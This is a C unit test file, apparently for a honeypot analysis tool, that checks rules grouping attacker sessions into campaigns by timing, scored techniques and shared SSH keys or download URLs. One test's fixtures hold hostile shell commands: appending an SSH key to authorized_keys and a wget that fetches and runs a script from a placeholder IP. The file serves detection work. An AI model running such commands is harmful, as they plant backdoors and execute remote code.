/* test_rules.c - B1, B2 and B8 (window.c, points.c, exact.c): each groups what its authors would expect, and fails as it is
 * known to fail. */
#include "groups.h"

#include <stdio.h>

/* `n` sources from `first` on, each at its own time drawn uniformly over a week, `visits` each. */
static void
add_independent(struct batch *b, uint32_t first, uint32_t n, uint32_t visits, uint64_t seed)
{
	for (uint32_t i = 0; i < n; i++)
		for (uint32_t v = 0; v < visits; v++) {
			struct rng rng = rng_at(seed, 1, i, v);

			batch_add(b, &(struct batch_session){
					 .ip = first + i, .at_s = rng_uniform(&rng) * 7 * 86400 });
		}
}

static void
test_window_groups_a_burst(void **state)
{
	struct batch *b = batch_new();
	struct groups g;
	uint32_t size;

	(void)state;
	for (uint32_t i = 0; i < 4; i++)
		batch_add(b, &(struct batch_session){ .ip = 10 + i, .at_s = 1000 + 60 * i });
	/* two in a window are none, and neither is one source thrice */
	batch_add(b, &(struct batch_session){ .ip = 1, .at_s = 9000 });
	batch_add(b, &(struct batch_session){ .ip = 2, .at_s = 9001 });
	batch_add(b, &(struct batch_session){ .ip = 2, .at_s = 9002 });
	groups_of(&g, b, "B1a");
	assert_int_equal(g.g.n, 1);
	assert_true(groups_hold(&g, 10, 4, &size));
	assert_int_equal(size, 4);
	arena_free(g.arena);
	groups_at(&g, NULL, "B1a", 5, 1);
	assert_int_equal(g.g.n, 0);
	groups_clear(&g);
}

/* Windows that overlap are one incident, others are not. */
static void
test_window_incidents(void **state)
{
	struct batch *b = batch_new();
	struct groups g;

	(void)state;
	for (uint32_t i = 0; i < 9; i++)
		batch_add(b, &(struct batch_session){ .ip = 10 + i, .at_s = 140 * i });
	for (uint32_t i = 0; i < 3; i++)
		batch_add(b, &(struct batch_session){ .ip = 30 + i, .at_s = 20000 + i });
	groups_of(&g, b, "B1a");
	assert_int_equal(g.g.n, 2);
	assert_true(groups_hold(&g, 10, 9, NULL));
	assert_true(groups_hold(&g, 30, 3, NULL));
	groups_clear(&g);
}

/* P1: 20 independent sources with 15 visits in a week; the rule fires on nearly every group. */
static void
test_window_fires_on_independent_sources(void **state)
{
	unsigned fired = 0;

	(void)state;
	for (uint64_t seed = 0; seed < 40; seed++) {
		struct batch *b = batch_new();
		struct groups g;

		add_independent(b, 100, 20, 15, seed);
		groups_of(&g, b, "B1a");
		fired += g.g.verdict == VERDICT_CAMPAIGN;
		groups_clear(&g);
	}
	assert_true(fired >= 30);
}

/* Without technique ids no event passes the cut: at most 50 points. */
static void
test_points_without_techniques(void **state)
{
	struct batch *b = batch_new();
	struct groups g;

	(void)state;
	for (uint32_t i = 0; i < 20; i++)
		batch_add(
		    b, &(struct batch_session){ .ip = 10 + i, .at_s = i, .commands = { "id" } });
	groups_of(&g, b, "B2a");
	assert_int_equal(g.g.n, 0);
	arena_free(g.arena);
	/* the known failure: below 0.5, being there within the hour is enough for strangers */
	groups_at(&g, NULL, "B2a", 0.4, 1);
	assert_true(groups_hold(&g, 10, 20, NULL));
	groups_clear(&g);
}

/* A script and one neighbour within the hour suffice: 10 + 10 + 40 + 5 a neighbour. */
static void
test_points_with_techniques(void **state)
{
	struct batch *b = batch_new();
	struct groups g;
	uint32_t size;

	(void)state;
	for (uint32_t i = 0; i < 3; i++)
		batch_add(b, &(struct batch_session){ .ip = 10 + i,
				 .at_s = 1000.0 * i,
				 .commands = { i == 0   ? "id"
					       : i == 1 ? "wget x"
							: "uname" } });
	batch_add(b, &(struct batch_session){ .ip = 20, .at_s = 50000, .commands = { "id" } });
	batch_add(b, &(struct batch_session){ .ip = 21, .at_s = 0, .credentials = { "root x" } });
	groups_of(&g, b, "B2b");
	assert_int_equal(g.g.n, 1);
	assert_true(groups_hold(&g, 10, 3, &size));
	assert_int_equal(size, 3);
	/* its number is volume: three events are next to nothing */
	assert_true(g.g.confidence < 0.1);
	groups_clear(&g);
}

static void
test_exact_shares(void **state)
{
	struct batch *b = batch_new();
	struct groups g;
	uint32_t size;

	(void)state;
	for (uint32_t i = 0; i < 3; i++)
		batch_add(
		    b, &(struct batch_session){ .ip = 10 + i, .at_s = i * 1e5, .key = "SHA256:a" });
	/* the same behaviour without an artefact is not seen */
	for (uint32_t i = 0; i < 3; i++)
		batch_add(
		    b, &(struct batch_session){ .ip = 20 + i, .commands = { "the same script" } });
	batch_add(b, &(struct batch_session){ .ip = 30, .key = "SHA256:b" });
	groups_of(&g, b, "B8");
	assert_int_equal(g.g.n, 1);
	assert_true(groups_hold(&g, 10, 3, &size));
	assert_int_equal(size, 3);
	assert_true(g.g.confidence == 1);
	groups_clear(&g);
}

/* Keys and URLs in what was typed count as those that the honeypot names itself. */
static void
test_exact_reads_commands(void **state)
{
	static const char key[] =
	    "AAAAB3NzaC1yc2EAAAADAQABAAABAQDb1ZkYrXw8fK2vQpLm0TnUoEiHsGaCjRtMZx";
	struct batch *b = batch_new();
	struct groups g;
	char line[2][200];

	(void)state;
	(void)snprintf(
	    line[0], sizeof(line[0]), "echo \"ssh-rsa %s a\" >> .ssh/authorized_keys", key);
	(void)snprintf(line[1], sizeof(line[1]), "cd /root;echo ssh-rsa %s>k", key);
	for (uint32_t i = 0; i < 2; i++)
		batch_add(b, &(struct batch_session){ .ip = 10 + i, .commands = { line[i] } });
	batch_add(
	    b, &(struct batch_session){ .ip = 20, .commands = { "wget http://192.0.2.9/a;sh a" } });
	batch_add(
	    b, &(struct batch_session){ .ip = 21, .commands = { "curl -O 'http://192.0.2.9/a'" } });
	batch_add(
	    b, &(struct batch_session){ .ip = 22, .commands = { "curl http://192.0.2.9/b ://" } });
	groups_of(&g, b, "B8");
	assert_int_equal(g.g.n, 2);
	assert_true(groups_hold(&g, 10, 2, NULL));
	assert_true(groups_hold(&g, 20, 2, NULL));
	groups_clear(&g);
}

/* Two keys on one source, as in a bot war, join their groups. */
static void
test_exact_chains(void **state)
{
	struct batch *b = batch_new();
	struct groups g;

	(void)state;
	for (uint32_t i = 0; i < 3; i++) {
		batch_add(b, &(struct batch_session){ .ip = 10 + i, .key = "SHA256:a" });
		batch_add(b, &(struct batch_session){ .ip = 12 + i, .at_s = 9, .key = "SHA256:b" });
	}
	groups_of(&g, b, "B8");
	assert_int_equal(g.g.n, 1);
	assert_true(groups_hold(&g, 10, 5, NULL));
	assert_true(g.g.confidence < 1);
	arena_free(g.arena);
	groups_at(&g, NULL, "B8", 10, 1);
	assert_int_equal(g.g.n, 0);
	groups_clear(&g);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_window_groups_a_burst),
		cmocka_unit_test(test_window_incidents),
		cmocka_unit_test(test_window_fires_on_independent_sources),
		cmocka_unit_test(test_points_without_techniques),
		cmocka_unit_test(test_points_with_techniques),
		cmocka_unit_test(test_exact_shares),
		cmocka_unit_test(test_exact_reads_commands),
		cmocka_unit_test(test_exact_chains),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
